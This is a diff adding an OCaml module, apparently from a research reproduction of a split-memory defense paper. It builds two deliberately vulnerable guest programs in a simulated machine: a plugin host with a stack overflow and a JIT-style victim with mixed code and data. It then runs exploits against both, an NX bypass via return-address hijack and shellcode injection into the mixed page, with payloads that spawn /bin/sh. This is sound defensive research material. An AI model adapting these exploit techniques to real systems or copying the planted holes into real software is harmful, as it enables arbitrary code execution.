@@ -1,0 +1,142 @@
+open Isa.Asm
+
+(* Two attacks that defeat the execute-disable bit but not split memory —
+   the paper's §2 motivation:
+
+   - {!run_nx_bypass}: the "well-crafted stack" attack [4]: hijack control
+     into legitimate library code that mmaps fresh writable+executable
+     memory, copies the injected bytes into it and jumps there. The NX bit
+     never sees a violation because every fetched page is "executable".
+   - {!run_mixed_page}: a JIT/JavaVM-style victim keeps code and data on
+     the same page (Fig. 1b); that page cannot be marked non-executable,
+     so injection into it sails past NX. *)
+
+(* --- NX bypass ---------------------------------------------------------- *)
+
+let plugin_host () =
+  Kernel.Image.build ~name:"plugin-host" ~bss_size:0
+    ~data:(fun ~lbl:_ ->
+      [
+        L "staging";
+        Space 256;
+        Align 16;
+        L "pkt";
+        Space 512;
+        L "okmsg";
+        Bytes "BYE!";
+      ])
+    ~lib:
+      [
+        (* A legitimate dynamic-plugin loader: mmap(len=4096, prot=rwx),
+           copy the staged plugin in, run it. Real-world analogue: JIT
+           compilers, dlopen-style loaders. *)
+        L "load_plugin";
+        I (Mov_ri (EAX, 90));
+        I (Mov_ri (EBX, 4096));
+        I (Mov_ri (ECX, 7));
+        I (Int 0x80);
+        I (Mov_rr (EDI, EAX));
+        I (Push EDI);
+        I (Mov_ri (ESI, Kernel.Layout.data_base));
+        (* staging is the first data label, at the segment base *)
+        I (Mov_ri (ECX, 256));
+        L "lp_copy";
+        I (Cmp_ri (ECX, 0));
+        I (Jz (Lbl "lp_run"));
+        I (Loadb (EAX, ESI, 0));
+        I (Storeb (EDI, 0, EAX));
+        I (Add_ri (ESI, 1));
+        I (Add_ri (EDI, 1));
+        I (Add_ri (ECX, -1));
+        I (Jmp (Lbl "lp_copy"));
+        L "lp_run";
+        I (Pop EDI);
+        I (Jmp_r EDI);
+      ]
+    ~code:(fun ~lbl ->
+      [ L "main" ]
+      @ Guest.sys_read_imm ~buf:(lbl "staging") ~len:256
+      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
+      @ [
+          I (Mov_ri (EAX, lbl "pkt"));
+          I (Push EAX);
+          I (Call (Lbl "vuln"));
+          I (Add_ri (ESP, 4));
+        ]
+      @ Guest.sys_write_imm ~buf:(lbl "okmsg") ~len:4 ()
+      @ Guest.sys_exit 0
+      @ [
+          L "vuln";
+          I (Push EBP);
+          I (Mov_rr (EBP, ESP));
+          I (Add_ri (ESP, -64));
+          I (Load (ESI, EBP, 8));
+          I (Lea (EDI, EBP, -64));
+        ]
+      @ Guest.copy_until_newline ~tag:"v"
+      @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret ])
+    ~entry:"main" ()
+
+let run_nx_bypass ?defense () =
+  let image = plugin_host () in
+  let s = Runner.start ?defense image in
+  (* The mmap region base is deterministic: first mmap in the process. *)
+  let plugin_base = Kernel.Layout.mmap_base in
+  let code = Shellcode.execve_bin_sh ~sled:16 ~base:plugin_base () in
+  Runner.send s code;
+  ignore (Runner.step s);
+  let loader = Kernel.Image.label image "load_plugin" in
+  let packet = Guest.filler 64 ^ Shellcode.word32 loader ^ Shellcode.word32 loader in
+  assert (not (Shellcode.contains_newline packet));
+  Runner.send s (packet ^ "\n");
+  ignore (Runner.step s);
+  Runner.outcome s
+
+(* --- mixed code+data page ----------------------------------------------- *)
+
+let jit_victim () =
+  Kernel.Image.build ~name:"javavm-mixed" ~bss_size:0
+    ~data:(fun ~lbl:_ -> [ L "pkt"; Space 512; L "okmsg"; Bytes "BYE!" ])
+    ~mixed:(fun ~lbl:_ ->
+      [
+        (* code and data share this writable, executable page *)
+        L "mixed_helper";
+        I Ret;
+        Align 16;
+        L "mbuf";
+        Space 64;
+        L "mfptr";
+        Word32 0;
+        (* patched to mixed_helper by main at startup *)
+      ])
+    ~code:(fun ~lbl ->
+      [
+        L "main";
+        I (Mov_ri (EAX, lbl "mixed_helper"));
+        I (Mov_ri (EDI, lbl "mfptr"));
+        I (Store (EDI, 0, EAX));
+      ]
+      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
+      @ [ I (Mov_ri (ESI, lbl "pkt")); I (Mov_ri (EDI, lbl "mbuf")) ]
+      @ Guest.copy_until_newline ~tag:"jit"
+      @ [
+          I (Mov_ri (ESI, lbl "mfptr"));
+          I (Load (EAX, ESI, 0));
+          I (Call_r EAX);
+        ]
+      @ Guest.sys_write_imm ~buf:(lbl "okmsg") ~len:4 ()
+      @ Guest.sys_exit 0)
+    ~entry:"main" ()
+
+let run_mixed_page ?defense () =
+  let image = jit_victim () in
+  let s = Runner.start ?defense image in
+  let mbuf = Kernel.Image.label image "mbuf" in
+  let code = Shellcode.execve_bin_sh ~sled:8 ~base:mbuf () in
+  let payload =
+    code ^ Guest.filler (64 - String.length code) ^ Shellcode.word32 mbuf
+  in
+  assert (not (Shellcode.contains_newline payload));
+  Runner.send s (payload ^ "\n");
+  ignore (Runner.step s);
+  Runner.outcome s
